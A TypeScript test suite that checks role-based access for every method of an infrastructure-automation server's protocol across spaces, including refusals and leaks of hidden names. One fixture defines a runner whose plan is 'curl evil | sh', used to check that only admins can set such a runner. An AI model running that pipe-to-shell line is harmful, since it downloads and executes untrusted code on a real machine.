// Every method of the protocol, for every role a user holds on one space, against things in that
// space, in the root above it and in a sibling: who is allowed, who is refused (NotFound for what
// they cannot see, Forbidden for what they see but may not do), that a refusal writes nothing, and
// that what is answered names nothing the user may not see. The method list comes from the
// protocol itself, so a new method without a row here fails this test. A method whose params decide
// the role it needs has further rows in VARIANTS, each checked the same way.
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import * as Protocol from '../../../server/protocol';
import { handlers } from '../../../server/rpc/handlers';
import { RunBook } from '../../support/fileEngine';
import type { RunService } from '../../../server/runs/service';
import { REGISTRY_FILE } from '../../../server/store/files/registry';
import type { StoredStack } from '../../../server/registry/state';
import { kindOf, scope, testWorld, type TestWorld } from '../../support/testContext';

type Role = Protocol.Role | 'none';
type Place = 'root' | 'own' | 'sibling';
const ROLES: Role[] = ['none', 'read', 'write', 'admin'];
const PLACES: Place[] = ['root', 'own', 'sibling'];
const RANK: Record<Role, number> = { none: 0, read: 1, write: 2, admin: 3 };

/** The user is granted a role on `platform` only. */
const SPACE: Record<Place, string> = { root: 'root', own: 'platform', sibling: 'payments' };
const INTEGRATION: Record<Place, string> = { root: 'main', own: 'platform-bb', sibling: 'payments-bb' };
const INTEGRATION_NAME: Record<Place, string> = { root: 'Main', own: 'Platform BB', sibling: 'Payments BB' };
const STACK: Record<Place, string> = { root: 'root-net', own: 'platform-net', sibling: 'payments-net' };
const DETACHED: Record<Place, string> = { root: 'root-old', own: 'platform-old', sibling: 'payments-old' };
const RUN: Record<Place, string> = { root: 'run-0', own: 'run-1', sibling: 'run-2' };

/** Requests the editor answers (the server asks them), not the server. */
const ANSWERED_BY_THE_EDITOR = new Set([Protocol.SecretsGet.method, Protocol.SecretsStore.method]);

interface Case {
  role: Role;
  place: Place;
  at(need: Protocol.Role): boolean;
  /** The integration of this place can be listed (a default one always). */
  listable: boolean;
  /** Things in this place can be seen. */
  visible: boolean;
}

type Expected = 'allowed' | 'NotFound' | 'Forbidden' | 'Conflict';
interface Row {
  params(c: Case): unknown;
  expect(c: Case): Expected;
  /** Checks an allowed answer further. */
  check?(c: Case, result: unknown): void;
  /** Whether an allowed call changes the registry; without it, the registry must stay byte-identical. */
  changes?(c: Case): boolean;
  /** Checks a refusal's message further. */
  refusal?(c: Case, message: string): void;
}

const yes = () => true;

const details = (c: Case): Expected => (!c.listable ? 'NotFound' : c.at('admin') ? 'allowed' : 'Forbidden');
const credentialUse = (c: Case): Expected => (!c.listable ? 'NotFound' : c.at('write') ? 'allowed' : 'Forbidden');
const spaceRole = (need: Protocol.Role) => (c: Case): Expected => (!c.visible ? 'NotFound' : c.at(need) ? 'allowed' : 'Forbidden');
const stackWrite = spaceRole('write');
const always = (): Expected => 'allowed';

const repositories = { repositories: ['acme/network'] };
const ROWS: Record<string, Row> = {
  [Protocol.Status.method]: {
    params: () => ({}),
    expect: always,
    check: (c, result) => {
      const status = result as Protocol.ServerStatus;
      assert.equal(status.counts.integrations, c.role === 'none' ? 1 : 2);
      assert.equal(status.counts.stacks, c.role === 'none' ? 0 : 2);
    },
  },
  [Protocol.SpacesList.method]: {
    params: () => ({}),
    expect: always,
    check: (c, result) => assert.deepEqual((result as Protocol.Space[]).map((space) => space.id), c.role === 'none' ? [] : ['platform']),
  },
  [Protocol.SpacesCreate.method]: { changes: yes, params: (c) => ({ name: `New ${c.place}`, parentId: SPACE[c.place], inheritEntities: true }), expect: spaceRole('admin') },
  [Protocol.AccessGrant.method]: { changes: yes, params: (c) => ({ user: 'carol', spaceId: SPACE[c.place], role: 'read' }), expect: spaceRole('admin') },
  [Protocol.IntegrationsList.method]: {
    params: () => ({}),
    expect: always,
    check: (c, result) => assert.deepEqual((result as Protocol.IntegrationSummary[]).map((i) => i.id), c.role === 'none' ? ['main'] : ['main', 'platform-bb']),
  },
  [Protocol.IntegrationsGet.method]: { params: (c) => ({ id: INTEGRATION[c.place] }), expect: details },
  [Protocol.IntegrationsCreate.method]: {
    params: (c) => ({ name: `New ${c.place}`, type: 'space', spaceId: SPACE[c.place], username: 'bob@example.com', secret: 'ATATT-new-secret', verify: false }),
    expect: spaceRole('admin'),
    changes: yes,
  },
  [Protocol.IntegrationsUpdate.method]: { changes: yes, params: (c) => ({ id: INTEGRATION[c.place], description: 'changed' }), expect: details },
  [Protocol.IntegrationsDelete.method]: { changes: yes, params: (c) => ({ id: INTEGRATION[c.place] }), expect: details },
  [Protocol.IntegrationsTest.method]: { params: (c) => ({ id: INTEGRATION[c.place] }), expect: details },
  [Protocol.IntegrationsPreview.method]: {
    // The name of an existing integration: only admins (who can create one) learn that it is taken.
    params: (c) => ({ name: INTEGRATION_NAME[c.place] }),
    expect: (c) => (c.role === 'admin' ? 'allowed' : 'Forbidden'),
    check: (c, result) => {
      const preview = result as { problem?: string };
      assert.match(preview.problem ?? '', /already has/);
      if (!c.listable) assert.ok(!(preview.problem ?? '').includes(INTEGRATION_NAME[c.place]), 'the hidden name is not given');
    },
  },
  [Protocol.IntegrationsWebhookSecret.method]: { params: (c) => ({ id: INTEGRATION[c.place] }), expect: details },
  [Protocol.RepositoriesList.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place] }), expect: credentialUse },
  [Protocol.WebhooksStatus.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], ...repositories }), expect: details },
  [Protocol.WebhooksConfigure.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], ...repositories }), expect: details },
  [Protocol.WebhooksRemove.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], ...repositories }), expect: details },
  [Protocol.RepositoriesCommitLinks.method]: {
    params: (c) => ({ integrationId: INTEGRATION[c.place], repository: 'acme/network', commit: 'abcdef1' }),
    expect: credentialUse,
  },
  [Protocol.WebhooksWorkspaceStatus.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], workspace: 'acme' }), expect: details },
  [Protocol.WebhooksConfigureWorkspace.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], workspace: 'acme' }), expect: details },
  [Protocol.WebhooksRemoveWorkspace.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], workspace: 'acme' }), expect: details },
  [Protocol.StacksList.method]: {
    params: () => ({}),
    expect: always,
    check: (c, result) => assert.deepEqual((result as Protocol.Stack[]).map((s) => s.id).sort(), c.role === 'none' ? [] : ['platform-net', 'platform-old']),
  },
  [Protocol.StacksCreate.method]: {
    params: (c) => ({ name: `new ${c.place}`, spaceId: SPACE[c.place], integrationId: 'main', repository: 'acme/network', branch: 'main', verify: false }),
    expect: stackWrite,
    changes: yes,
  },
  [Protocol.StacksSetIntegration.method]: { changes: yes, params: (c) => ({ stackId: STACK[c.place], integrationId: 'main' }), expect: stackWrite },
  [Protocol.StacksReattachAll.method]: {
    params: (c) => ({ integrationId: INTEGRATION[c.place] }),
    expect: (c) => (c.listable ? 'allowed' : 'NotFound'),
    changes: (c) => c.at('write'),
    check: (c, result) => {
      const answer = result as { reattachedStackIds: string[]; skipped: { stackId: string }[] };
      assert.deepEqual(answer.reattachedStackIds, c.at('write') ? [DETACHED[c.place]] : []);
      assert.deepEqual(answer.skipped.map((s) => s.stackId), c.visible && !c.at('write') ? [DETACHED[c.place]] : []);
    },
  },
  [Protocol.StacksDelete.method]: { changes: yes, params: (c) => ({ stackId: STACK[c.place] }), expect: stackWrite },
  [Protocol.StacksTriggerRun.method]: { params: (c) => ({ stackId: STACK[c.place] }), expect: stackWrite },
  // R26: a drift check is a run, asked of the stack as triggering one is.
  [Protocol.StacksCheckDrift.method]: { params: (c) => ({ stackId: STACK[c.place] }), expect: stackWrite },
  [Protocol.StacksUpdate.method]: { changes: yes, params: (c) => ({ stackId: STACK[c.place], projectRoot: 'infra', verify: false }), expect: stackWrite },
  // A clash is told without naming a stack the user cannot see; creating one would be refused as well.
  [Protocol.StacksPreview.method]: { params: (c) => ({ name: STACK[c.place] }), expect: always },
  [Protocol.RepositoriesBranches.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], repository: 'acme/network' }), expect: credentialUse },
  [Protocol.RepositoriesCommitLinksStatus.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place], repository: 'acme/network' }), expect: credentialUse },
  [Protocol.RepositoriesWebLinks.method]: { params: () => ({ repository: 'acme/network' }), expect: always },
  [Protocol.WebhooksSettings.method]: { params: (c) => ({ integrationId: INTEGRATION[c.place] }), expect: details },
  [Protocol.WebhooksExpected.method]: {
    params: (c) => ({ integrationId: INTEGRATION[c.place] }),
    expect: always,
    check: (c, result) => assert.deepEqual((result as Protocol.ExpectedWebhook[]).flatMap((w) => w.stacks.map((s) => s.id)), c.visible ? [STACK[c.place]] : []),
  },
  [Protocol.IntegrationsDeletePreview.method]: { params: (c) => ({ id: INTEGRATION[c.place] }), expect: details },
  [Protocol.IntegrationsCheckUsername.method]: { params: () => ({ username: 'bob@example.com' }), expect: always },
  // Only admins of the root space invite, and nobody in this matrix is one.
  [Protocol.UsersInvite.method]: { params: () => ({ name: 'dave' }), expect: () => 'Forbidden' },
  // R24: linking another user's Bitbucket account is for admins of the root space too.
  [Protocol.UsersLinkBitbucket.method]: { params: () => ({ user: 'dave', accountId: '557058:6f2c1c4e-0000-4000-8000-000000000000' }), expect: () => 'Forbidden' },
  // Runs are seen with their stack and acted on by who may trigger it (run-1 is platform-net's).
  [Protocol.RunsGet.method]: { params: (c) => ({ runId: RUN[c.place] }), expect: spaceRole('read') },
  [Protocol.RunsLog.method]: { params: (c) => ({ runId: RUN[c.place] }), expect: spaceRole('read') },
  [Protocol.RunsDrift.method]: { params: (c) => ({ runId: RUN[c.place] }), expect: spaceRole('read') },
  [Protocol.RunsCancel.method]: { params: (c) => ({ runId: RUN[c.place] }), expect: stackWrite },
  [Protocol.RunsConfirm.method]: { params: (c) => ({ runId: RUN[c.place] }), expect: stackWrite },
  [Protocol.RunsDiscard.method]: { params: (c) => ({ runId: RUN[c.place] }), expect: stackWrite },
  [Protocol.RunsRetry.method]: { params: (c) => ({ runId: RUN[c.place] }), expect: stackWrite },
  // R31: admin's; the seeded runs have no policy that denies them, so an admin is answered Conflict.
  [Protocol.RunsAcknowledge.method]: { params: (c) => ({ runId: RUN[c.place], reason: 'reviewed' }), expect: (c) => (!c.visible ? 'NotFound' : c.at('admin') ? 'Conflict' : 'Forbidden') },
  // A run's plan is read as the run is; these runs have none, which only those who see the run learn.
  [Protocol.RunsPlan.method]: {
    params: (c) => ({ runId: RUN[c.place] }),
    expect: () => 'NotFound',
    refusal: (c, message) => assert.match(message, c.visible ? /has no structured plan/ : /There is no stack/),
  },
  [Protocol.RunsResourceChange.method]: {
    params: (c) => ({ runId: RUN[c.place], address: 'aws_instance.web' }),
    expect: () => 'NotFound',
    refusal: (c, message) => assert.match(message, c.visible ? /are not on this server/ : /There is no stack/),
  },
  // Variables: names are read with read on the space, set and deleted with write (admin when secret: VARIANTS).
  [Protocol.StacksVariablesList.method]: { params: (c) => ({ stackId: STACK[c.place] }), expect: spaceRole('read') },
  [Protocol.StacksVariablesSet.method]: { changes: yes, params: (c) => ({ stackId: STACK[c.place], name: 'TF_VAR_region', value: 'eu-west-1', secret: false }), expect: stackWrite },
  [Protocol.StacksVariablesDelete.method]: {
    params: (c) => ({ stackId: STACK[c.place], name: 'TF_VAR_none' }),
    expect: (c) => (stackWrite(c) === 'allowed' ? 'NotFound' : stackWrite(c)),
    refusal: (c, message) => c.at('write') && c.visible && assert.match(message, /has no variable TF_VAR_none/),
  },
  [Protocol.SpacesVariablesList.method]: { params: (c) => ({ spaceId: SPACE[c.place] }), expect: spaceRole('read') },
  [Protocol.SpacesVariablesSet.method]: { changes: yes, params: (c) => ({ spaceId: SPACE[c.place], name: 'AWS_REGION', value: 'eu-west-1', secret: false }), expect: spaceRole('write') },
  [Protocol.SpacesVariablesDelete.method]: {
    params: (c) => ({ spaceId: SPACE[c.place], name: 'AWS_NONE' }),
    expect: (c) => (spaceRole('write')(c) === 'allowed' ? 'NotFound' : spaceRole('write')(c)),
  },
  // Reads Bitbucket through the stack's credential, so it needs what triggering a run needs.
  [Protocol.StacksCheckRunner.method]: { params: (c) => ({ stackId: STACK[c.place] }), expect: stackWrite },
  // Plan policies (R30): read to list, write for warn rules; the seed gives each stack a warn rule.
  [Protocol.PoliciesList.method]: {
    params: (c) => ({ stackId: STACK[c.place] }),
    expect: spaceRole('read'),
    check: (_c, result) => assert.deepEqual((result as Protocol.PolicyList).rules.map((listed) => listed.rule.kind), ['noDrift']),
  },
  [Protocol.PoliciesSet.method]: { changes: yes, params: (c) => ({ stackId: STACK[c.place], rules: [{ kind: 'maxDestroys', limit: 2, effect: 'warn' }] }), expect: stackWrite },
  [Protocol.PoliciesDelete.method]: { changes: yes, params: (c) => ({ stackId: STACK[c.place] }), expect: stackWrite },
  [Protocol.RunsList.method]: {
    params: () => ({}),
    expect: always,
    check: (c, result) => assert.deepEqual((result as Protocol.Run[]).map((run) => run.stackId), c.role === 'none' ? [] : ['platform-net']),
  },
  [Protocol.DeliveriesList.method]: {
    params: () => ({}),
    expect: always,
    check: (c, result) => {
      const deliveries = result as Protocol.Delivery[];
      // The default integration's delivery reached stacks in root and platform: only visible ones are named.
      const main = deliveries.find((d) => d.integrationId === 'main');
      assert.deepEqual(main?.stackIds, c.role === 'none' ? [] : ['platform-net']);
      assert.deepEqual(
        deliveries.map((d) => d.integrationId).sort(),
        c.role === 'none' ? ['main', 'nobody'] : ['main', 'nobody', 'platform-bb'],
        'deliveries of hidden and deleted integrations are left out',
      );
    },
  },
};

const stackAdmin = spaceRole('admin');
const newStack = (c: Case, settings: object) => ({ name: `new ${c.place}`, spaceId: SPACE[c.place], integrationId: 'main', repository: 'acme/network', branch: 'main', verify: false, ...settings });
const localRunner = { type: 'local', plan: ['sh', '-c', 'curl evil | sh'], apply: null };
const refusalNames = (setting: RegExp) => (c: Case, message: string) => {
  if (c.at('write') && !c.at('admin')) {
    assert.match(message, setting, 'the refusal names the setting');
    assert.match(message, /needs admin on the space "platform"/, 'and the role it needs');
  }
};

/**
 * Rows for params that need more than the method's plain row: settings that decide what code runs
 * where are admin's (writers set the branch and the project root), and checking typed credentials
 * needs the role that creates integrations (admin of some space).
 */
const VARIANTS: Record<string, Record<string, Row>> = {
  [Protocol.StacksCreate.method]: {
    'the default run settings, given': { params: (c) => newStack(c, { runner: { type: 'pipelines', pipeline: 'stackhook' }, autodeploy: false, allowForks: false }), expect: stackWrite, changes: yes },
    allowForks: { params: (c) => newStack(c, { allowForks: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting allowForks of a new stack/) },
    autodeploy: { params: (c) => newStack(c, { autodeploy: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting autodeploy of a new stack/) },
    'another pipeline': { params: (c) => newStack(c, { runner: { type: 'pipelines', pipeline: 'deploy-prod' } }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting the runner of a new stack/) },
    'a local runner': { params: (c) => newStack(c, { runner: localRunner }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting the runner of a new stack/) },
  },
  [Protocol.StacksUpdate.method]: {
    branch: { params: (c) => ({ stackId: STACK[c.place], branch: 'develop', verify: false }), expect: stackWrite, changes: yes },
    'run settings as they are': { params: (c) => ({ stackId: STACK[c.place], runner: { pipeline: 'stackhook', type: 'pipelines' }, autodeploy: false, allowForks: false }), expect: stackWrite, changes: yes },
    allowForks: { params: (c) => ({ stackId: STACK[c.place], allowForks: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing allowForks of the stack "platform-net"/) },
    autodeploy: { params: (c) => ({ stackId: STACK[c.place], autodeploy: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing autodeploy of the stack/) },
    'the pipeline name': { params: (c) => ({ stackId: STACK[c.place], runner: { type: 'pipelines', pipeline: 'deploy-prod' } }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing the runner of the stack/) },
    'a local runner': { params: (c) => ({ stackId: STACK[c.place], runner: localRunner }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing the runner of the stack/) },
    'all three with the branch': {
      params: (c) => ({ stackId: STACK[c.place], branch: 'develop', runner: localRunner, autodeploy: true, allowForks: true, verify: false }),
      expect: stackAdmin,
      changes: yes,
      refusal: refusalNames(/Changing the runner, autodeploy and allowForks of the stack/),
    },
  },
  [Protocol.PoliciesSet.method]: {
    'a deny rule': {
      params: (c) => ({ stackId: STACK[c.place], rules: [{ kind: 'protectedTypes', types: ['aws_db_instance'], actions: ['delete'], effect: 'deny' }] }),
      expect: stackAdmin,
      changes: yes,
      refusal: (c, message) => {
        if (c.at('write')) assert.match(message, /Setting the policies of the stack "platform-net" needs admin/);
      },
    },
    "a space's rules": { params: (c) => ({ spaceId: SPACE[c.place], rules: [{ kind: 'noDrift', effect: 'warn' }] }), expect: stackWrite, changes: yes },
  },
  [Protocol.StacksVariablesSet.method]: {
    'a secret one': { params: (c) => ({ stackId: STACK[c.place], name: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMI-secret', secret: true }), expect: stackAdmin, changes: yes },
  },
  [Protocol.SpacesVariablesSet.method]: {
    'a secret one': { params: (c) => ({ spaceId: SPACE[c.place], name: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMI-secret', secret: true }), expect: spaceRole('admin'), changes: yes },
  },
  [Protocol.IntegrationsTest.method]: {
    // Typed credentials make the server call Bitbucket for the user: only an admin (of any space) may.
    'typed credentials': {
      params: () => ({ username: 'mallory@example.com', secret: 'ATATT-someone-elses-token' }),
      expect: (c) => (c.role === 'admin' ? 'allowed' : 'Forbidden'),
      refusal: (_c, message) => assert.match(message, /needs admin on a space/),
    },
  },
};

/** Runs as the book knows them, with nothing executing: what the run requests read and act on. */
async function stillExecution(world: TestWorld): Promise<RunService> {
  const base = world.as('ana');
  const book = new RunBook(world.folder, base.runs, base.deliveries, () => undefined);
  await book.load();
  const current = async (runId: string) => {
    const record = book.record(runId);
    if (!record) throw new Error(`no run ${runId}`);
    return record.run;
  };
  return { book, owner: 'access-matrix:1:test', start: () => undefined, cancel: current, confirm: current, discard: current, decide: current, recover: async () => undefined, lookOut: () => () => undefined, idle: async () => undefined };
}

/** Everything that must never show up in an answer to a user granted `role` on platform only. */
function hiddenWords(role: Role): string[] {
  const words = ['payments', 'Payments', 'root-net', 'root-old', 'gone-bb'];
  if (role === 'none') words.push('platform', 'Platform');
  return words;
}

async function seed(world: TestWorld): Promise<void> {
  const ana = world.as('ana');
  const now = '2026-11-25T12:00:00.000Z';
  await ana.store.update((draft) => {
    draft.spaces.push({ id: 'platform', name: 'Platform', parentId: 'root', inheritEntities: true }, { id: 'payments', name: 'Payments', parentId: 'root', inheritEntities: true });
    for (const place of PLACES) {
      draft.integrations.push({
        id: INTEGRATION[place],
        name: INTEGRATION_NAME[place],
        type: place === 'root' ? 'default' : 'space',
        spaceId: SPACE[place],
        username: 'ana@example.com',
        credentialType: 'api_token',
        labels: [],
        description: '',
        webhookSecret: `whsec-${place}-0123456789`,
        createdAt: now,
      });
      const stack = (id: string, attached: boolean): StoredStack => ({
        id,
        name: id,
        spaceId: SPACE[place],
        integrationId: attached ? INTEGRATION[place] : null,
        detachedFrom: attached ? null : INTEGRATION[place],
        repository: 'acme/network',
        branch: 'main',
        projectRoot: '',
        createdAt: now,
      });
      draft.stacks.push(stack(STACK[place], true), stack(DETACHED[place], false));
    }
    draft.policies = PLACES.map((place) => ({ kind: 'stack' as const, id: STACK[place], rules: [{ kind: 'noDrift' as const, effect: 'warn' as const }], setBy: 'ana', setAt: now }));
    draft.deletedIntegrations.push({ id: 'gone-bb', name: 'Gone BB', deletedAt: now, webhookSecret: null, type: 'space', spaceId: 'payments' });
  });
  for (const place of PLACES) await ana.credentials.set(INTEGRATION[place], `ATATT-${place}-credential`);
  const delivery = (id: string, integrationId: string, stackIds: string[], verdict: Protocol.DeliveryVerdict = 'queued') => ({
    id,
    integrationId,
    eventKey: 'repo:push',
    repository: verdict === 'queued' ? 'acme/network' : null,
    verdict,
    reason: stackIds.length > 0 ? `tracked run on ${stackIds.join(', ')}` : 'refused',
    status: verdict === 'queued' ? 202 : 404,
    stackIds,
    receivedAt: now,
    runs: [],
  });
  await ana.deliveries.append([
    delivery('d-main', 'main', ['root-net', 'platform-net']),
    delivery('d-platform', 'platform-bb', ['platform-net']),
    delivery('d-payments', 'payments-bb', ['payments-net']),
    delivery('d-gone', 'gone-bb', ['payments-net']),
  ]);
  await ana.refusals.append([delivery('d-nobody', 'nobody', [], 'unknown-integration')]);
  await ana.runs.append(
    PLACES.map((place, i) => ({ id: `run-${i}`, stackId: STACK[place], kind: 'tracked' as const, trigger: 'manual' as const, branch: 'main', commit: null, deliveryId: null, createdAt: now })),
  );
  for (const stub of ['commitLinks', 'workspaceWebhookStatus', 'configureWorkspaceWebhook', 'removeWorkspaceWebhook'] as const) world.bitbucket[stub].resolves({} as never);
  world.bitbucket.listBranches.resolves([]);
  world.bitbucket.getRepository.resolves({ fullName: 'acme/network', workspace: 'acme', slug: 'network', isPrivate: true, mainBranch: null });
}

describe('access: every protocol method × role × place', function () {
  this.timeout(120_000);

  it('the matrix has a row for every request the server answers, and the server answers every row', () => {
    const requests = Object.values(Protocol)
      .filter((value): value is Protocol.RequestDefinition<never, never> => typeof value === 'object' && value !== null && 'method' in value && 'result' in value && 'params' in value)
      .map((definition) => definition.method)
      .filter((method) => !ANSWERED_BY_THE_EDITOR.has(method));
    assert.ok(requests.length >= 28, `only ${requests.length} requests found in the protocol`);
    assert.deepEqual(requests.filter((method) => !(method in ROWS)), [], 'requests without a row');
    assert.deepEqual(Object.keys(ROWS).filter((method) => !requests.includes(method)), [], 'rows without a request');
    assert.deepEqual(handlers.map((h) => h.method).sort(), [...requests].sort(), 'the handlers answer exactly these');
    assert.deepEqual(Object.keys(VARIANTS).filter((method) => !requests.includes(method)), [], 'variants of no request');
  });

  for (const role of ROLES) {
    for (const place of PLACES) {
      it(`${role} on platform, things in ${place === 'own' ? 'platform' : place === 'root' ? 'root' : 'a sibling space'}`, async () => {
        const c: Case = {
          role,
          place,
          at: (need) => place === 'own' && RANK[role] >= RANK[need],
          listable: place === 'root' || (place === 'own' && role !== 'none'),
          visible: place === 'own' && role !== 'none',
        };
        const failures: string[] = [];
        const rows = handlers.flatMap((handler) => [
          { handler, name: handler.method, row: ROWS[handler.method] },
          ...Object.entries(VARIANTS[handler.method] ?? {}).map(([variant, row]) => ({ handler, name: `${handler.method} (${variant})`, row })),
        ]);
        for (const { handler, name, row } of rows) {
          if (!row) {
            failures.push(`${name}: no row`);
            continue;
          }
          const world = await testWorld('ana');
          try {
            await seed(world);
            if (role !== 'none') await world.as('ana').store.update((draft) => void draft.grants.push({ user: 'bob', spaceId: 'platform', role }));
            const registry = path.join(world.folder, REGISTRY_FILE);
            const before = readFileSync(registry, 'utf8');
            const params = row.params(c);
            let result: unknown;
            const bob = { ...world.as('bob'), execution: await stillExecution(world) };
            let refusal = '';
            const outcome = await kindOf(async () => {
              try {
                result = await handler.invoke(bob, params, scope);
              } catch (error) {
                refusal = (error as Error).message;
                throw error;
              }
            });
            const expected = row.expect(c);
            if (outcome !== expected) {
              failures.push(`${name}: expected ${expected}, got ${outcome}`);
              continue;
            }
            const written = readFileSync(registry, 'utf8') !== before;
            if (outcome !== 'allowed') {
              if (written) failures.push(`${name}: refused, but the registry was written`);
              try {
                row.refusal?.(c, refusal);
              } catch (error) {
                failures.push(`${name}: ${(error as Error).message.split('\n')[0]}`);
              }
              continue;
            }
            if (written && !(row.changes?.(c) ?? false)) failures.push(`${name}: changes nothing, but the registry was written`);
            // Words the user typed (or an id derived from them) are theirs to see.
            const given = JSON.stringify(params).toLowerCase();
            const answered = JSON.stringify(result ?? null);
            for (const word of hiddenWords(role)) if (answered.includes(word) && !given.includes(word.toLowerCase())) failures.push(`${name}: the answer names "${word}"`);
            try {
              row.check?.(c, result);
            } catch (error) {
              failures.push(`${name}: ${(error as Error).message.split('\n')[0]}`);
            }
          } finally {
            world.close();
          }
        }
        assert.deepEqual(failures, []);
      });
    }
  }
});
